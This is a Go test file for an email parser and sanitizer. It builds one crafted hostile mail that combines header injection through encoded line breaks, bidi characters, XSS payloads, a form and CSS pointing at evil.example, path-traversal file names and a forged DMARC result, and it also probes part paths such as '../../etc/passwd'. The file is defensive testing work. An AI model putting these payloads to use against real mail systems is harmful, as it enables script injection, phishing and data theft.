package email

import (
	"errors"
	"io"
	"strings"
	"testing"
	"unicode"

	"github.com/rufweite/rufweite/internal/channel"
)

// The attacks of trust.md that begin with a mail. Each has its full table elsewhere (TestSanitizeAttacks, TestAssess,
// TestSmuggling, TestCorpusLarge …); here is one mail that tries them all at once, as an attacker would.

func TestHostileMail(t *testing.T) {
	const zip = "PK\x03\x04" // what is inside is not for the parser: nothing is unpacked
	raw := []byte("Authentication-Results: mx.firma.example; dmarc=pass header.from=bank.example\r\n" +
		"X-Rufweite-Envelope: v=1; peer=192.0.2.10; helo=mx.bank.example; from=<chef@bank.example>\r\n" +
		"From: =?utf-8?q?Chef=0D=0ABcc:_x@evil.example=E2=80=AE=E2=80=8B<script>?= <chef@bank.example>\r\n" +
		"Reply-To: =?utf-8?q?a=0Ab?= <x@evil.example>\r\n" +
		"To: \"=?utf-8?q?S=0D=0Aervice?=\" <service+r.tok@evil.example>, service@firma.example\r\n" +
		"Subject: =?utf-8?q?Rechnung=0D=0AX-Evil:_1=E2=80=AE?= <img src=x onerror=alert(1)>\r\n" +
		"Message-ID: <a\r\n b@bank.example>\r\nReferences: <x@firma.example\r\n>\r\nDate: Fri, 31 Dec 9999 23:59:59 +0000\r\n" +
		"Content-Type: multipart/mixed; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<svg><style><img src=x onerror=alert(1)></style></svg><a href=\"java\tscript:x()\">k</a>" +
		"<div style=\"position:fixed;background:url(//evil.example/x)\">y</div><form action=//evil.example><input name=p></form>\r\n" +
		"--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: inline; filename=\"..\\\\..\\\\=?utf-8?q?bild=E2=80=AEgpj.svg?=\"\r\n\r\n<svg onload=x()>\r\n" +
		"--b\r\nContent-Type: application/zip; name=\"a\r\n b.zip\"\r\nContent-Disposition: attachment\r\n\r\n" + zip + "\r\n--b--\r\n")
	e := parse(t, raw)
	m := e.Message
	if e.Sender.Assurance != channel.Claimed {
		t.Errorf("assurance %q", e.Sender.Assurance)
	}
	one := func(what string, values ...string) {
		for _, s := range values {
			for _, r := range s {
				if unicode.IsControl(r) || bidiOrInvisible(r) {
					t.Errorf("%s holds %q: %q", what, r, s)
				}
			}
		}
	}
	one("the subject", m.Subject)
	one("the name", e.Sender.Name)
	one("the ids", append(m.References, m.ExternalID, m.ReplyTo, e.Key)...)
	for _, b := range append(append(append(m.From, m.To...), m.Cc...), m.AnswerTo...) {
		one("a mailbox", b.Name, b.Address)
	}
	for _, a := range m.Attachments {
		one("a file name", a.Name, a.MediaType, a.ContentID)
		if strings.ContainsAny(a.Name, `/\`) || a.Inline {
			t.Errorf("attachment %+v", a)
		}
	}
	if len(m.Attachments) != 2 || m.ReplyToken != "" || m.ExternalID != "<ab@bank.example>" {
		t.Errorf("%d files, token %q, id %q", len(m.Attachments), m.ReplyToken, m.ExternalID)
	}
	clean, _ := Sanitize(m.HTML, SanitizeOptions{})
	inert(t, m.HTML, clean)
	if strings.Contains(m.Text, "onerror") {
		t.Errorf("text %q", m.Text)
	}

	// However it reached us, its own fields prove nothing.
	dns := &zone{txt: map[string][]string{"_dmarc.bank.example": {"v=DMARC1; p=reject"}, "bank.example": {"v=spf1 ip4:192.0.2.10 -all"}}}
	a := channel.Account{Settings: map[string]string{"address": own, "trusted_authserv_id": "mx.firma.example"}}
	for what, stored := range map[string][]byte{
		"over our port": append([]byte(envelope{known: true, peer: network(addrOf(farConn{}.RemoteAddr())), helo: "x", from: "x@evil.example"}.line()), raw...),
		"fetched":       Fetched(raw[strings.Index(string(raw), "X-Rufweite"):]),
	} {
		got, err := (Driver{}).Assess(t.Context(), a, stored, e, channel.Env{DNS: dns})
		if err != nil || got.Assurance != channel.Claimed || got.Result != "fail" {
			t.Errorf("%s: %+v, %v", what, got, err)
		}
	}
}

// Nothing that a machine wrote gets an automatic answer.
func TestNoLoopsFromReports(t *testing.T) {
	for what, raw := range map[string]string{
		"a report about ours":         dsn("Final-Recipient: rfc822; weg@kunde.example\nAction: failed\nStatus: 5.1.1\n"),
		"a report about nothing":      dsn("Final-Recipient: rfc822; weg@kunde.example\nAction: failed\nStatus: 5.1.1\n", "", ""),
		"a receipt":                   mdn("Original-Message-ID: "+oursID+"\nDisposition: manual-action/MDN-sent-manually; displayed\n", ""),
		"an answer of a machine":      "From: a@b.example\r\nAuto-Submitted: auto-replied\r\nIn-Reply-To: " + oursID + "\r\n\r\nWeg.",
		"a list":                      "From: a@b.example\r\nList-Id: <x.y.example>\r\n\r\nHallo",
		"a null sender":               "Return-Path: <>\r\nFrom: a@b.example\r\n\r\nHallo",
		"a daemon without any fields": "From: MAILER-DAEMON@b.example\r\n\r\nHallo",
	} {
		e := parse(t, []byte(raw))
		if e.Type == channel.MessageEvent && !e.Message.Automatic {
			t.Errorf("%s would get an automatic answer", what)
		}
	}
}

// A mail cannot name parts that are not its own.
func TestOpenPartStaysInside(t *testing.T) {
	raw := winmail("Hallo", sample().b.Bytes())
	for _, part := range []string{"../1", "2#../../etc/passwd", "2#00", "#", "#0", "2##0", "1.", ".1", "2#18446744073709551616", "\x00", strings.Repeat("1.", 10000), strings.Repeat("#", 10000)} {
		if r, err := OpenPart(raw, part); err == nil {
			if b, _ := io.ReadAll(r); part != "2#00" || len(b) == 0 {
				t.Errorf("%.40q opens: %.40q", part, b)
			}
		} else if errors.Is(err, io.EOF) {
			t.Error(err)
		}
	}
}
